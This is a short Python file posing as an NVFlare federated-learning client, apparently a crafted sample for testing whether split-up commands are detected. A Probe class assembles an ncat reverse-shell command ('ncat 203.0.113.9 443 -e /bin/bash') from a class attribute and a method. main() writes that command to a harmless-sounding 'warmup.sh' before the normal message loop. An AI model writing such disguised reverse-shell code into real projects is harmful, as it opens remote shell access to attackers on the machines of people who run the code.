"""Lead, session 59 (end review): ncat -e /bin/bash kept as a class attribute argv extended in a method, joined
where it is written."""
import nvflare.client as flare

class Probe:
    argv = ["ncat", "203.0.113.9", "443"]

    def extend(self):
        self.argv = self.argv + ["-e", "/bin/bash"]
        return self.argv


def script():
    return " ".join(Probe().extend())


def main():
    flare.init()
    with open("warmup.sh", "w") as fh:
        fh.write(script())
    while flare.is_running():
        flare.send(flare.receive())


main()
